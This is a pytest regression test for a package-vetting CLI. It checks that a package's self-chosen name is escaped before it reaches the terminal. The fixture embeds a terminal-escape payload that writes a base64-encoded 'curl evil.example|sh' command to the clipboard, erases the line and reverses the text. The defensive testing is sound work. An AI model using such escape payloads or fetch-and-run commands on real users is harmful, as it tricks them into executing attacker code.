"""The table's first line names what was examined: ``vet <package>: BLOCK``. For a local archive
or folder, the package is named as its own ``package.json`` names it, so its author chose that
text, and the line printed it raw: an OSC 52 in the package's name wrote the user's clipboard,
a cursor move erased the line, a right-to-left override reversed it (the verdict with it), on
the terminal of the user vetting a download before installing it. Every other value of the
table went through the sanitiser; now the subject does too. The real CLI on a pseudo-terminal
(rich strips BEL, but not ESC: an OSC ended by ESC backslash passed) and through a pipe."""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import time
from pathlib import Path

from gateway_attack_kit import MCPWARD

import mcpward

#: A clipboard write ended by ST (ESC backslash, which rich does not strip), the line erased, a
#: right-to-left override.
HOSTILE_NAME = "evil\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\\x1b[2K\u202emcp"
#: What must never reach the terminal raw (the table's own colours are escape sequences too).
RAW = ("\x1b]", "\x1b\\", "\x1b[2K", "\x1b[8m", "\x07", "\u202e")


def _package(tmp_path: Path, name: str, version: str) -> Path:
    folder = tmp_path / "download"
    folder.mkdir()
    (folder / "package.json").write_text(
        json.dumps({"name": name, "version": version, "scripts": {"postinstall": "node setup.js"}}), "utf-8"
    )
    return folder


def _run(args: list[str], tmp_path: Path, *, terminal: bool) -> str:
    env = {
        **os.environ,
        "PYTHONPATH": str(Path(mcpward.__file__).parents[1]),
        "MCPWARD_DATA_DIR": str(tmp_path / "data"),
    }
    if not terminal:
        done = subprocess.run([*MCPWARD, *args], capture_output=True, env=env, timeout=120, check=False)
        return done.stdout.decode("utf-8", "replace")
    leader, follower = pty.openpty()
    process = subprocess.Popen(
        [*MCPWARD, *args], stdin=subprocess.DEVNULL, stdout=follower, stderr=follower, env=env
    )
    os.close(follower)
    chunks: list[bytes] = []
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        ready, _, _ = select.select([leader], [], [], 1)
        if ready:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the follower closed: the process ended
                break
            if not chunk:
                break
            chunks.append(chunk)
        elif process.poll() is not None:
            break
    os.close(leader)
    process.wait(timeout=30)
    return b"".join(chunks).decode("utf-8", "replace")


def test_a_packages_own_name_reaches_no_terminal_raw(tmp_path: Path) -> None:
    folder = _package(tmp_path, HOSTILE_NAME, "1.0.0\x1b[8m")
    for terminal in (True, False):
        shown = _run(["vet", str(folder), "--offline"], tmp_path, terminal=terminal)
        assert "BLOCK" in shown or "REVIEW" in shown or "PASS" in shown, shown
        assert not any(raw in shown for raw in RAW), (terminal, shown[:300])
        assert "\\x1b]52" in shown  # shown, escaped: the reader sees what the package is named


def test_a_plain_package_name_is_shown_as_it_is(tmp_path: Path) -> None:
    folder = _package(tmp_path, "@acme/files", "1.2.3")
    shown = _run(["vet", str(folder), "--offline"], tmp_path, terminal=False)
    assert shown.startswith("vet @acme/files@1.2.3"), shown[:200]
